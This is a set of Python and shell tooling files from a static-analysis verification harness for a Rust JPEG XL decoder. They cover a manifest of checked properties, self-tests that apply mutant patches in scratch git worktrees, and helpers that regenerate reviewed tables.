             "or detected on every path (R-TF); every unsafe site belongs to a reviewed class whose guard obligation is re-checked "
             "(R-UNSAFE). Does not decide the index arithmetic inside SIMD kernels (class h).",
        note="x86_64 only; trusts rustc's target-feature tables and std_detect's meaning of a feature name",
        ref="DESIGN.md section 3 C02"),
    "C05": dict(
        technique="ordering / control-dependence rules on MIR of the slot bookkeeping + decision-table extraction of the gating predicates by abstract evaluation of MIR over a finite abstraction; data-dependence of per-channel blend sources on the loop item; forward data flow from the alpha-channel index, followed into applied closures (the alpha plane is converted with its own bit depth; the region list of every grid an alpha plane is taken from is read at that index); call-graph reachability for oriented dimensions; registry of repair guards in blend() / patch(); reaching-definition ordering of conditionally clamped values in the blend kernels",
        text="Claimed narrowly: which reference slot a frame reads and which it is saved into. A frame's sources are read before its own "
             "save; saves are control-dependent on can_reference()/lf_level; the per-frame vectors stay index-aligned; and the complete "
             "decision tables of can_reference/is_keyframe/frame-type helpers equal the format's rules. Does not decide the blend arithmetic.",
        note="reference decision tables transcribed from ISO/IEC 18181-1; abstraction: duration {0,1,1000}, save_as_reference 0..3",
        ref="DESIGN.md section 3 C05"),
    "C06": dict(
        technique="must-pass-through and loop-iteration path rules on MIR (cache invalidation); constant propagation over MIR (header field, enum discriminant and const-generic parameters fixed) comparing filter padding with the reach read from the kernel offset tables; data flow of the base grid's region list into Region::intersection in blend(); registry of repair guards; evaluation of Region::apply_orientation from MIR over concrete rectangles against the brute-force preimage; evaluation of the Region methods from MIR against pixel-set semantics",
        text="Claimed narrowly: region changes always invalidate. Every store to the requested region reaches reset_cache; reset_cache "
             "clears the loading caches and replaces the handle of every non-ReferenceOnly frame by a fresh handle built for the new "
             "region. Necessary for history-independence of region requests; does not decide padding arithmetic.",
        note="intraprocedural; handle replacement recognised as a store into renders_narrow|wide[idx]",
        ref="DESIGN.md section 3 C06"),
    "C07": dict(
        technique="who-may-call bans over resolved callees, closure-capture census with Freeze verdicts, monotone-store dataflow on shared Result slots; atomic-operation typing of the allocation budget (R-TRACKER)",
        text="Decides structural necessary conditions of schedule independence for all schedules and pool sizes: no decoder crate can "
             "observe pool size, thread identity, clock, environment or hash seed; parallel closures share only reviewed slots; every "
             "store into a shared error slot is monotone towards Err; lazy statics are write-once. Does not decide bit-identity of samples.",
        note="trusts rustc's capture analysis and callee resolution; rayon itself is trusted",
        ref="DESIGN.md section 3 C07"),
    "C13": dict(
        technique="field-access census + atomic-operation typing + closure-body shape + ownership (drop of handle temporaries) on MIR; dominance ordering of tracker charge before allocation; census of discarded out-of-memory results; store-before-fallible-call ordering on the remembered limit (commit after shrink_limit succeeds); dominance of every success publication by the Ok edge of the fallible calls before it",
        text="Decides the budget arithmetic for every interleaving: bytes_left is only changed by fetch_update(checked_sub) and "
             "fetch_add of exactly the amount recorded in the handle; handles cannot be forged, are not dropped as temporaries, are not "
             "leaked, and exhaustion is never unwrapped. Does not decide untracked allocations or Arc cycles.",
        note="trusts std atomics; count*size_of wrap in release is bounded by C01 limits, not re-proved",
        ref="DESIGN.md section 3 C13"),
    "C14": dict(
        technique="read-layout reconstruction from MIR of every header parser (primitive, distribution constants, field binding, controlling conditions) compared with a table reviewed against the specification; decision-table extraction of canvas predicates by abstract evaluation; index-provenance agreement of the parallel gathers in the permuted table of contents; evaluation of the U64 and F16 readers from MIR against a scripted bit source (value and read widths)",
        text="Decides the layout half: for 30 header parsers (160 reads) the order, primitive, distribution, field binding and condition of "
             "every bitstream read equal the reviewed table, so a changed distribution, dropped/reordered field or altered presence "
             "condition is reported with the first differing read; the canvas predicates gating blending fields equal their definition on "
             "a grid of crop rectangles. Does not decide the primitive readers' arithmetic or accessor values.",
        note="19 of 30 tables were compared by hand with ISO/IEC 18181-1 (listed in tools/gen_bitspec.py), the others are snapshots marked reviewed=false",
        ref="DESIGN.md section 3 C14"),
    "C15": dict(
        technique="symbolic affine evaluation of MIR (abstract interpretation over {x,y,w,h,1}) of the three orientation maps, coefficient comparison; control-dependence / must-pass-through for channel order; interval analysis of the operands of narrowing casts in the integer output conversions; call-graph reachability (oriented-dimension accessors unreachable from codestream-coordinate code); must-pass-through of the cursor advance in the resumable stream writer; control dependence of the integer fast path on the BitDepth discriminant; evaluation of Region::apply_orientation from MIR over concrete rectangles against the brute-force preimage; evaluation of the sample <-> float output conversions from MIR against their definition",
        text="Decides the coordinate-map half for all sizes and coordinates: for each of the eight orientations the maps in "
             "FrameBuffer::from_grids, ImageStream::to_original_coord and ImageMetadata::apply_orientation (forward and inverse) equal the "
             "EXIF definition, are mutually inverse and agree on the dimension swap; stream channels are pushed colour, black (cmyk only), "
             "alpha (unless skipped) with aligned parallel vectors. Does not decide rounding/clamping or sample equality between outputs.",
        note="affine forms with rational coefficients; an arm that is not straight-line affine arithmetic is reported as not evaluable (fail closed)",
        ref="DESIGN.md section 3 C15"),
    "C16": dict(
        technique="dispatch-table extraction from the discriminant switch of three sibling dispatchers (resolved callees + const generic arguments) and comparison with the format's table; literal secant vectors of the in-register DCT8 kernels compared with the formula, and a contradiction rule (forward and inverse cannot share one table provider); evaluation of the generic scalar 1-D DCT from MIR (n = 2 .. 256, both directions) against the mathematical definition; evaluation of the generic Hornuss transform from MIR against its definition",
        text="Claimed narrowly: every one of the 27 transform types has a handler, and the generic, SSE2 and SSE4.1 dispatchers route each "
             "type to the corresponding kernel family with the same const generic argument (e.g. Dct8x4 -> dct4x8<true>, Afv2 -> afv<2>); "
             "and the generic scalar 1-D DCT (the recursive kernel behind every block size) equals the mathematical definition for "
             "n = 2 .. 256 in both directions (evaluated from MIR, 1e-4). Does not decide the vector kernels, the 2-D driver, AFV / DCT2 / "
             "DCT4x8, or agreement between generic and vector kernels.",
        note="kernel families are recognised by name after stripping the architecture suffix",
        ref="DESIGN.md section 3 C16"),
    "C03": dict(
        technique="comparison of rustc-evaluated format tables and enum code maps with references transcribed from the standard; sibling cross-check of the two channel-partition predicates on MIR; scope (construction-site / loop) rule for the RLE run state; who-may-reset-without-previous-channels rule tied to the table-refusal check; concrete evaluation (constant propagation) of the previous-channel depth expression; saturating-index rule for compiled lookup tables; registry of repair guards; data-dependence of the palette fast-path decision on the delta-entry count; decision table of the delta-prediction bookkeeping by a product-state walk of MIR (block x known integer locals); evaluation of Predictor::predict from MIR for the 13 stateless predictors against the format's formulas; reachability walk (block x flags) for the per-row reset of the remembered gradient",
        text="Claimed narrowly: three structural necessary conditions of exact lossless decoding. The weighted-predictor reciprocal table "
             "and the delta palette have the specified values; the 14 predictor codes denote the specified predictors (enum discriminants "
             "and the TryFrom<u32> switch); the predicate that keeps a channel in the global section and the one that skips it when "
             "group sections are laid out are identical, so every channel is decoded exactly once, and the LF-group shift threshold is "
             "used consistently. Does not decide that decoded samples equal the encoded integers.",
        note="everything arithmetic about prediction, context trees, fast paths and inverse transforms is undecided",
        ref="DESIGN.md section 8.14"),
    "C04": dict(
        technique="comparison of rustc-evaluated constant tables with references transcribed from the standards; validation-check reconstruction from MIR against a reviewed table; constant-agreement rule on the LZ77 window; constant-propagating path rule (enum variant fixed) on the single-token shortcut; must-pass-through of Decoder::finalize for every decoder owner; must-pass-through of the bit-buffer refill on every path of Coder::read_symbol; must-pass-through of the previous-symbol store between two code-length symbol reads; abstract evaluation from MIR with scripted bit / symbol sources of the hybrid-integer configuration parser (every field combination, R-HYBRID-CONFIG) and of the context-map reader incl. inverse move-to-front (R-CLUSTER-MAP) against the format",
        text="Claimed narrowly: three structural necessary conditions. The tables the entropy decoder takes from the format (LZ77 special "
             "distances, code-length order) have the specified values; the acceptance checks the property names (ANS final state 0x130000, "
             "complete prefix codes, distribution sums, cluster map holes, Lehmer digits) exist as compare->error; the LZ77 window "
             "constants agree between writer index, reader index and distance clamp. Does not decide that decoding returns the encoded "
             "sequence or consumes exactly the encoded bits (value-level round trip).",
        note="the ANS mask / table-size agreement is decided under C02 (R-UNSAFE-b); alias-table construction, prefix lookup tables and hybrid-integer expansion of tokens are not decided",
        ref="DESIGN.md section 8.9"),
    "C19": dict(
        technique="comparison of rustc-evaluated colour constants and recognition tables with references transcribed from the cited standards or derived by formula; writer/reader agreement of the cicp tag layout (offset, element index, codes) extracted from MIR; backward data-flow slice of the recovered chromaticities (no range-limiting operation); sibling agreement of the sign handling in the two scalar directions of each transfer curve; path independence of the TRC-presence store from the curve-recognition store in detect_profile_info; decision table of EnumColourEncoding::cicp over the enum values (abstract evaluation of MIR); evaluation of the scalar transfer functions from MIR against the curves of the cited standards; evaluation of the chromatic adaptation matrix from MIR against the Bradford transform",
        text="Claimed narrowly: the named colour constants. Chromaticities of the enumerated white points and primaries, the Bradford "
             "matrix and its inverse, the HLG and PQ constants equal the values of the cited standards, and the ICC parser's recognition "
             "tables map the same chromaticities to the same enum values the synthesiser writes. Does not decide anything numerical about "
             "the round trip or the transfer curves (tolerances, monotonicity, custom chromaticities, arbitrary gamma).",
        note="the rational approximations of the PQ / sRGB curves are snapshot-guarded only (stated in evidence)",
        ref="DESIGN.md section 8.9"),
    "C12": dict(
        technique="exhaustive decision-table extraction of the buffer-width predicate by abstract evaluation of MIR; sibling-implementation cross-checks (resolved callees and operators of the I32 vs I16 arms and of the i32 vs i16 trait impls); no saturating i16 arithmetic in the sample-processing crates (callee census); operation-multiset agreement of the scalar i16 / i32 transform kernels; operation ordering (shift at 32 bits before the narrowing cast) in the i16 token unpacker; evaluation of the four UnpackSigned copies from MIR; field-set agreement of the two arms of every narrow / wide branch in RenderContext; abstract evaluation from MIR of the Squeeze smooth-tendency function in both sample widths against the format's definition (R-TENDENCY)",
        text="Claimed narrowly: what selects the buffer width, and that both widths go through the same operations. narrow_modular equals "
             "`!force_wide && header flag` for all four input combinations and the builder setting reaches the render context; every match "
             "on ImageBuffer with separate 32-bit / 16-bit arms (15) and every i16/i32 pair of Sample/Sealed methods (12) use the same "
             "resolved callees and operators, reviewed exceptions listed with their reason. Does not decide identity of the decoded samples, "
             "nor the i16 SIMD squeeze kernels against the scalar code.",
        note="sibling agreement is a cross-check, not a proof of equal results: arms that differ only in arithmetic constants of the same operators are not distinguished",
        ref="DESIGN.md section 8.13"),
    "C17": dict(
        technique="interval abstract interpretation of reconstruction-header fields to panicking operations; backward data-flow of unwrapped iterator searches; validation-check reconstruction from MIR against a reviewed table (through helper and predicate functions); symbolic carving of the data section; per-variant constant-propagating path rules for the status query; registry of repair guards (data-section completeness before slicing / before reporting Available); backward data-dependence slice of the ICC payload write on the marker's declared length; reachability walk (block x pending) for the correction-bit counter of the refinement scan; abstract evaluation from MIR of ScanMoreInfo::parse on scripted field reads (the two delta-coded block lists, R-JBR-SCANINFO)",
        text="Claimed narrowly: the two clauses visible in the shape of the code. (1) jpeg_reconstruction_status reports Available only on the "
             "Data state of the jbrd box and after each piece of metadata the header expects (ICC, Exif, XMP) has been probed; "
             "reconstruct_jpeg refuses incomplete box states and a missing frame before unwrapping. (2) Hostile reconstruction data is an "
             "error, not a panic, for the class decided: the consistency checks exist as compare->error, and no header field with a "
             "width-implied range reaches an overflow-checked operation, shift, division or fixed-size array index it can break "
             "(found and repaired D9-D11). Does not decide byte-exactness of the reconstructed JPEG.",
        note="interval domain only: panics depending on relations between header vectors (table index vs table count, is_last markers, Huffman code shapes) are not decided",
        ref="DESIGN.md section 8.8"),
    "C18": dict(
        technique="validation-check reconstruction from MIR against a reviewed table of the ICC stream decoder's consistency conditions; exhaustive walk of the tag-name decision tree; symbolic normal form of the prediction shift amount; exhaustive evaluation of the ICC header predictor from MIR (every position, every platform rule) against the format's predictor; abstract evaluation from MIR of shuffle2 / shuffle4 (every length 0..17, 64, 65) and of the whole ICC command interpreter decode_icc (53 scripted streams: every command, tag shortcut and rejection) against an interpreter written from the format (R-ICC-SHUFFLE, R-ICC-INTERP; found D62) and of the 41-context function get_icc_ctx (R-ICC-CTX); backward trace of the context history to its single start per profile (R-ICC-HISTORY)",
        text="Two clauses. Rejection: 24 consistency conditions of "
             "read_icc/decode_icc (sizes, offsets, command/tag codes, predictor parameters, available data, final length) exist as "
             "compare->error checks with the reviewed bound. Interpreter: header predictor, shuffles and the command interpreter agree with "
             "the format on every scripted stream (each command's index arithmetic once). Does not decide byte-exactness for every stream, "
             "nor the context modelling of the entropy-coded byte stream.",
        note="table transcribed from the decoder and checked against ISO/IEC 18181-1 Annex on ICC encoding where the condition is explicit; intraprocedural",
        ref="DESIGN.md section 8.6"),
    "C20": dict(
        technique="protocol-shape rules on MIR: who-may-write census, test-and-set shape, must-pass-through, guard liveness dataflow; dominance of every success publication by the Ok edge of the fallible calls before it; lock re-acquisition dataflow (R-BLOCK); call-graph reachability from thread-pool closures to the render-handle wait (R-POOL-WAIT)",
        text="Decides the structural safety argument of the render-handle protocol for every interleaving: exact writer/locker "
             "sets, atomic acquire, release on all paths, notify under guard, wait in re-check loop, no handle guard live across "
             "a call that can lock a handle. Does not decide that all callers receive identical pixels.",
        note="trusts std::sync primitives and rustc MIR; panics in renderers excluded",
        ref="DESIGN.md section 3 C20"),
}


def main():
    checks = []
    for pid in sorted(CHECKS):
        c = CHECKS[pid]
        checks.append({
            "property_id": pid,
            "quick_cmd": "./check %s --tier quick" % pid,
            "thorough_cmd": "./check %s --tier thorough" % pid,
            "evidence_file": "/verif/evidence/%s.json" % pid,
            "replay_cmd_template": "./check --explain {path}",
            "engine": "E-MIR",
            "level_claimed": {"category": "other", "text": c["text"], "design_ref": c["ref"]},
            "level_note": c["note"],
            "technique": c["technique"],
        })
    m = {
        "version": 1,
        "setup_cmd": "cd /verif && ./setup.sh",
        "hooks": {
            "guard": "jxl_oxide_verif",
            "enable": "none: static analysis needs no instrumentation; checks run `cargo +nightly check` on the unmodified source through the jxlv driver",
            "baseline_off_cmd": "cd /repo && cargo nextest run --workspace --no-fail-fast --test-threads 8 --offline",
            "source_commits": [],
            "add_only": True,
        },
        "engines": [
            {"name": "E-MIR", "path": "/verif/driver", "serves_properties": sorted(CHECKS),
             "kind_free_text": "rustc_private driver dumping type-checked MIR/ADT/impl facts of every workspace crate as JSON"},
            {"name": "E-RULES", "path": "/verif/jxlv", "serves_properties": sorted(CHECKS),
             "kind_free_text": "python rule evaluation over the facts: dominators, must-pass-through, dataflow, tables, floors"},
        ],
        "checks": checks,
        "not_applicable": [{"property_id": k, "reason": v} for k, v in sorted(NA.items())]
        + [{"property_id": k, "reason": "check under construction in this session (see DESIGN.md section 7 build order); not claimed until its rules run"}
           for k in PENDING if k not in CHECKS],
        "notes": "static analysis only; see DESIGN.md. fix: commits in /repo for D1, D2, D3, D5 are listed in known_findings.json as fixed.",
    }
    with open(os.path.join(V, "MANIFEST.json"), "w") as fh:
        json.dump(m, fh, indent=1)


PENDING = []

if __name__ == "__main__":
    main()

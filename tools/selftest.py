#!/usr/bin/env python3
"""Checker self-test: every registered mutant (a small edit of /repo that still compiles) must make the named property's
check fire with the expected key; every benign edit must leave all checks silent.  Runs on a scratch worktree of /repo's
HEAD outside /repo and /verif; evidence of these runs goes to a temporary directory."""
import json, os, shutil, subprocess, sys, tempfile, time

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def main():
    only = set(sys.argv[1:])
    tmp = tempfile.mkdtemp(prefix="jxlv-selftest-")
    wt = os.path.join(tmp, "repo")
    env = dict(os.environ, JXLV_EVID=os.path.join(tmp, "evidence"), JXLV_CACHE=os.path.join(tmp, "cache"))
    subprocess.run(["git", "-C", "/repo", "worktree", "add", "--detach", wt, "HEAD"], check=True, capture_output=True)
    # carry uncommitted changes of /repo's working tree (the checks are about the current tree)
    d = subprocess.run(["git", "-C", "/repo", "diff", "HEAD"], capture_output=True, text=True).stdout
    if d.strip():
        subprocess.run(["git", "-C", wt, "apply"], input=d, text=True, check=True)
        subprocess.run(["git", "-C", wt, "add", "-A"], check=True)
    results = []
    ok = True
    try:
        idx = json.load(open(os.path.join(V, "mutants", "index.json")))
        for m in idx:
            if only and m["name"] not in only:
                continue
            t0 = time.time()
            patch = os.path.join(V, "mutants", m["name"] + ".patch")
            r = subprocess.run(["git", "-C", wt, "apply", patch], capture_output=True, text=True)
            if r.returncode != 0:
                results.append((m["name"], "PATCH-DOES-NOT-APPLY", ""))
                ok = False
                continue
            p = subprocess.run([os.path.join(V, "check"), m["property"], "--repo", wt], capture_output=True, text=True, env=env)
            out = p.stdout + p.stderr
            fired = p.returncode == 1 and m["expect"] in out
            results.append((m["name"], "fires" if fired else "MISSED (exit %d)" % p.returncode, "%.0fs" % (time.time() - t0)))
            if not fired:
                ok = False
                sys.stdout.write(out[-1500:])
            subprocess.run(["git", "-C", wt, "checkout", "--", "."], check=True)
            subprocess.run(["git", "-C", wt, "clean", "-fdq"], check=True)
        # seeded changes written by independent sub-agents that the checks are known to detect
        sdir = os.path.join(V, "seeded")
        for sid in sorted(os.listdir(sdir)) if os.path.isdir(sdir) else []:
            mp = os.path.join(sdir, sid, "meta.json")
            if not os.path.exists(mp) or (only and sid not in only):
                continue
            meta = json.load(open(mp))
            if not meta.get("detected"):
                continue
            t0 = time.time()
            r = subprocess.run(["git", "-C", wt, "apply", os.path.join(sdir, sid, "patch.diff")], capture_output=True, text=True)
            if r.returncode != 0:
                results.append(("seed/" + sid, "PATCH-DOES-NOT-APPLY", ""))
                ok = False
                continue
            props = meta.get("detected_under", [meta["property"]])
            fired = False
            for pid in props:
                p = subprocess.run([os.path.join(V, "check"), pid, "--repo", wt], capture_output=True, text=True, env=env)
                fired = fired or p.returncode == 1
            results.append(("seed/" + sid, "fires" if fired else "MISSED", "%.0fs" % (time.time() - t0)))
            if not fired:
                ok = False
            subprocess.run(["git", "-C", wt, "checkout", "--", "."], check=True)
            subprocess.run(["git", "-C", wt, "clean", "-fdq"], check=True)
        bdir = os.path.join(V, "mutants", "benign")
        props = sorted(c["property_id"] for c in json.load(open(os.path.join(V, "MANIFEST.json")))["checks"])
        for fn in sorted(os.listdir(bdir)):
            if not fn.endswith(".patch") or (only and fn[:-6] not in only):
                continue
            r = subprocess.run(["git", "-C", wt, "apply", os.path.join(bdir, fn)], capture_output=True, text=True)
            if r.returncode != 0:
                results.append(("benign/" + fn, "PATCH-DOES-NOT-APPLY", ""))
                ok = False
                continue
            noisy = []
            for pid in props:
                p = subprocess.run([os.path.join(V, "check"), pid, "--repo", wt], capture_output=True, text=True, env=env)
                if p.returncode != 0:
                    noisy.append(pid)
            results.append(("benign/" + fn, "silent" if not noisy else "FALSE ALARM in %s" % noisy, ""))
            if noisy:
                ok = False
            subprocess.run(["git", "-C", wt, "checkout", "--", "."], check=True)
    finally:
        subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", wt], capture_output=True)
        shutil.rmtree(tmp, ignore_errors=True)
    for r in results:
        print("%-45s %s %s" % r)
    print("SELFTEST", "OK" if ok else "FAILED")
    return 0 if ok else 1


if __name__ == "__main__":
    sys.exit(main())

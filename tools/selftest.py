#!/usr/bin/env python3
"""Checker self-test: every registered mutant (a small edit of /repo that still compiles; mutants/index.json, including the reverse of
every repair commit) must make the named property's check fire with the expected key; every seeded change recorded as detected must
still fire under one of the recorded properties; every benign edit (mutants/benign) must leave all checks silent.
usage: tools/selftest.py [-j N] [names...]
Each item runs in its own scratch worktree of /repo's HEAD outside /repo and /verif (tools/try_patches.py machinery); evidence of
these runs goes to temporary directories; /repo is not touched."""
import json, os, sys
from concurrent.futures import ThreadPoolExecutor

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(V, "tools"))
import try_patches  # noqa: E402


def main():
    a = sys.argv[1:]
    jobs = 6
    if a and a[0] == "-j":
        jobs = int(a[1]); a = a[2:]
    only = set(a)
    all_props = [c["property_id"] for c in json.load(open(os.path.join(V, "MANIFEST.json")))["checks"]]
    items = []
    for m in json.load(open(os.path.join(V, "mutants", "index.json"))):
        if only and m["name"] not in only:
            continue
        items.append(("mutant", m["name"], os.path.join(V, "mutants", m["name"] + ".patch"), [m["property"]], m["expect"]))
    sdir = os.path.join(V, "seeded")
    for sid in sorted(os.listdir(sdir)) if os.path.isdir(sdir) else []:
        mp = os.path.join(sdir, sid, "meta.json")
        if not os.path.exists(mp) or (only and sid not in only):
            continue
        meta = json.load(open(mp))
        if not meta.get("detected") or meta.get("retired") or not os.path.exists(os.path.join(sdir, sid, "patch.diff")):
            continue
        items.append(("seed", "seed/" + sid, os.path.join(sdir, sid, "patch.diff"), meta.get("detected_under") or [meta["property"]], None))
    bdir = os.path.join(V, "mutants", "benign")
    for fn in sorted(os.listdir(bdir)) if os.path.isdir(bdir) else []:
        if fn.endswith(".patch") and (not only or fn in only or ("benign/" + fn) in only):
            items.append(("benign", "benign/" + fn, os.path.join(bdir, fn), all_props, None))

    def one(it):
        kind, name, patch, props, expect = it
        try:
            _, out = try_patches.run_one(patch, props)
        except Exception as e:      # noqa: BLE001 - a helper failure is reported as such, never as a verdict
            return name, "CHECK-ERROR", "ERROR: %r" % (e,)
        text = "\n".join(out)
        if "PATCH-DOES-NOT-APPLY" in text:
            return name, "PATCH-DOES-NOT-APPLY", text
        if "Traceback" in text or "ERROR" in text:
            return name, "CHECK-ERROR", text
        if kind == "benign":
            return name, ("silent" if not out else "FALSE-ALARM"), text
        fired = bool(out) and (expect is None or expect in text)
        return name, ("fires" if fired else "MISSED"), text

    ok = True
    with ThreadPoolExecutor(max_workers=jobs) as ex:
        for name, verdict, text in ex.map(one, items):
            print("%-64s %s" % (name, verdict))
            if verdict not in ("fires", "silent"):
                ok = False
                print(text[:1200])
            sys.stdout.flush()
    print("SELFTEST OK" if ok else "SELFTEST FAILED")
    sys.exit(0 if ok else 1)


if __name__ == "__main__":
    main()

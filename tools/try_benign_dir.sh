#!/bin/sh
# usage: tools/try_benign_dir.sh <dir with *.patch> <outfile>   every check on /repo with each patch applied (reverted afterwards)
D="$1"; OUT="$2"; : > "$OUT"
for p in "$D"/*.patch; do
  echo "### $p" >> "$OUT"
  /verif/tools/try_all.sh "$p" >> "$OUT" 2>&1
done
echo ALL-DONE >> "$OUT"

#!/usr/bin/env python3
"""(Re)generate tables/bitspec.json from the current tree.  The result is a REVIEW DOCUMENT: entries listed in REVIEWED were
compared by hand with ISO/IEC 18181-1 (sections on SizeHeader, ImageMetadata, FrameHeader, TOC ...); the rest are snapshots."""
import json, os, sys
sys.path.insert(0, os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
from jxlv import extract, facts
from jxlv.rules import c14

REVIEWED = [
    "SizeHeader", "PreviewHeader", "AnimationHeader", "BitDepth", "ExtraChannelInfo", "Customxy", "Name", "Passes", "BlendingInfo",
    "BlendMode", "FrameType", "Encoding", "FrameFlags", "FrameHeader", "Toc", "ImageHeader", "WhitePoint", "Primaries", "TransferFunction",
]
prog = facts.Program(extract.facts_dir())
got = c14.extract_all(prog)
out = {"comment": "bit layout of the header parsers; reviewed=true entries were checked against ISO/IEC 18181-1 by hand", "functions": {}}
for p, (f, reads) in sorted(got.items()):
    head = p.split(" as ")[0].lstrip("<").split("::")[-1]
    out["functions"][p] = {"reviewed": head in REVIEWED, "reads": reads}
json.dump(out, open(os.path.join(os.path.dirname(os.path.dirname(os.path.abspath(__file__))), "tables", "bitspec.json"), "w"), indent=1)
print(len(out["functions"]), "functions,", sum(len(v["reads"]) for v in out["functions"].values()), "reads,",
      sum(1 for v in out["functions"].values() if v["reviewed"]), "reviewed")

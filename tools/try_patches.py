#!/usr/bin/env python3
"""usage: tools/try_patches.py [-j N] [--props C01,C02] patch [patch ...]
Apply each patch to its own scratch worktree of /repo's HEAD (outside /repo and /verif), run every registered check
(or the listed ones) against it with --repo, print the checks that fire, remove the worktree.  /repo is not touched."""
import time
import json, os, shutil, subprocess, sys, tempfile
from concurrent.futures import ThreadPoolExecutor

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))


def run_one(patch, props):
    tmp = tempfile.mkdtemp(prefix="jxlv-try-")
    wt = os.path.join(tmp, "repo")
    out = []
    try:
        for attempt in range(6):        # concurrent checks add / remove worktrees of the same repository: retry on lock contention
            r0 = subprocess.run(["git", "-C", "/repo", "worktree", "add", "--detach", wt, "HEAD"], capture_output=True, text=True)
            if r0.returncode == 0:
                break
            subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", wt], capture_output=True)
            shutil.rmtree(wt, ignore_errors=True)
            time.sleep(1.5 * (attempt + 1))
        else:
            return patch, ["ERROR: could not create a scratch worktree: " + r0.stderr.strip()[:200]]
        r = subprocess.run(["git", "-C", wt, "apply", os.path.abspath(patch)], capture_output=True, text=True)
        if r.returncode != 0:
            return patch, ["PATCH-DOES-NOT-APPLY: " + r.stderr.strip()[:200]]
        env = dict(os.environ, JXLV_EVID=os.path.join(tmp, "evidence"), JXLV_CACHE=os.path.join(tmp, "cache"))
        for p in props:
            c = subprocess.run([os.path.join(V, "check"), p, "--repo", wt], capture_output=True, text=True, env=env)
            if c.returncode != 0:
                lines = [l for l in (c.stdout + c.stderr).splitlines() if "rule=" in l or l.startswith("ERROR") or "Traceback" in l]
                out.append("== %s fires (exit %d):" % (p, c.returncode))
                out.extend("   " + l[:300] for l in lines[:8])
                if not lines:
                    out.extend("   " + l[:300] for l in (c.stdout + c.stderr).splitlines()[-5:])
    finally:
        subprocess.run(["git", "-C", "/repo", "worktree", "remove", "--force", wt], capture_output=True)
        shutil.rmtree(tmp, ignore_errors=True)
    return patch, out


def main():
    a = sys.argv[1:]
    jobs = 3
    props = [c["property_id"] for c in json.load(open(os.path.join(V, "MANIFEST.json")))["checks"]]
    while a and a[0].startswith("-"):
        if a[0] == "-j":
            jobs = int(a[1]); a = a[2:]
        elif a[0] == "--props":
            props = a[1].split(","); a = a[2:]
        else:
            break
    with ThreadPoolExecutor(max_workers=jobs) as ex:
        for patch, out in ex.map(lambda p: run_one(p, props), a):
            print("### %s: %s" % (patch, "silent" if not out else "FIRES"))
            for l in out:
                print(l)
            sys.stdout.flush()


if __name__ == "__main__":
    main()

#!/usr/bin/env python3
"""Record, for every entry of the four validation-check tables, the definition-resolved ("deep") form of the check that matches it on
the current tree -> tables/check_deep.json.  The deep form contains no local variable names, so a later rename of a local is
recognised; it is only consulted when the named form, the (operator, constant) form and the shape form all fail."""
import json, os, sys
V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, V)
from jxlv import engine, validation
from jxlv.rules import limit, c18, c17, c04

ctx = engine.Ctx("C01", "quick", configs=("workspace",))
out = {}
for name, table in (("limit", [(t[0], t[1], t[2]) for t in limit.TABLE]), ("icc", [(t[0], t[1], t[2]) for t in c18.TABLE]),
                    ("jbr", [(t[0], t[1], t[2]) for t in c17.TABLE]), ("coding", [(t[0], t[1], t[2]) for t in c04.TABLE])):
    out[name] = {}
    fns = sorted({t[0] for t in table})
    for fp in fns:
        f = ctx.prog.fn(fp)
        if f is None:
            cn = fp.lstrip("<").split("::")[0]
            c2 = [x for x in ctx.prog.crate(cn).fn_list if x.path == fp] if cn in ctx.prog.crates else []
            f = c2[0] if c2 else None
        if f is None:
            print("missing function", fp)
            continue
        cs = validation.checks_deep(ctx.prog, f)
        res = validation.match_table(cs, [(c, n) for ff, c, n in table if ff == fp])
        out[name][fp] = {cond: sorted({c.get("deep") for c in have if c.get("deep")}) for cond, have in res.items()}
json.dump(out, open(os.path.join(V, "tables", "check_deep.json"), "w"), indent=1)
print({k: sum(len(v) for v in d.values()) for k, d in out.items()})

# the repair-guard registry (rules/fixguards.py): deep forms of its compare / reject entries -> tables/guard_deep.json
from jxlv.rules import fixguards
gd = {}
for props, prefix, kind, text, defect, why in fixguards.TABLE:
    if kind not in ("compare", "reject"):
        continue
    key = "%s|%s|%s:%s" % (defect, prefix.split("::")[-1].rstrip("<"), kind, text)
    forms = set()
    neg = {"<": ">=", ">=": "<", ">": "<=", "<=": ">", "==": "!=", "!=": "=="}
    parts = text.rsplit(" ", 2)
    alt = validation.norm(parts[0], neg[parts[1]], int(parts[2]) if parts[2].lstrip("-").isdigit() else parts[2]) if len(parts) == 3 else None
    for f in fixguards.family(ctx.prog, prefix):
        cs = validation.checks_deep(ctx.prog, f) if kind == "reject" else validation.checks(f, errs=set(range(len(f.blocks))))
        for c in cs:
            t = validation.norm(c["subject"], c["op"], c["other"])
            if t == text or (kind == "compare" and t == alt):
                if c.get("deep"):
                    forms.add(c["deep"])
    gd[key] = sorted(forms)
    if not forms:
        print("no deep form for", key)
json.dump(gd, open(os.path.join(V, "tables", "guard_deep.json"), "w"), indent=1)
print("guard deep forms:", sum(len(v) for v in gd.values()))

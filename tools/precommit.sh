#!/bin/sh
# run every registered quick check on /repo's working tree; exit 1 if any fails (use before committing rule changes)
cd "$(dirname "$0")/.."
fail=0
for c in $(python3 -c "import json;print(' '.join(x['property_id'] for x in json.load(open('MANIFEST.json'))['checks']))"); do
  ./check $c --tier quick > /tmp/precommit_$c.out 2>&1 || { echo "$c FAILS"; tail -3 /tmp/precommit_$c.out | cut -c1-300; fail=1; }
done
[ $fail -eq 0 ] && echo "all quick checks pass"
exit $fail

#!/usr/bin/env python3
"""usage: tools/refresh_seed_meta.py [-j N] [seed ids...]
Re-run every registered check against every seeded change (tools/try_patches.py machinery: scratch worktrees of /repo HEAD, /repo is
not touched) and record in seeded/<id>/meta.json what fires today: `detected` (bool), `detected_under` (property ids) and
`fires_now` (rule keys).  The hand-written `detected_by` explanation is kept."""
import json, os, re, sys
from concurrent.futures import ThreadPoolExecutor

V = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
sys.path.insert(0, os.path.join(V, "tools"))
import try_patches  # noqa: E402


def main():
    a = sys.argv[1:]
    jobs = 4
    if a and a[0] == "-j":
        jobs = int(a[1]); a = a[2:]
    props = [c["property_id"] for c in json.load(open(os.path.join(V, "MANIFEST.json")))["checks"]]
    sdir = os.path.join(V, "seeded")
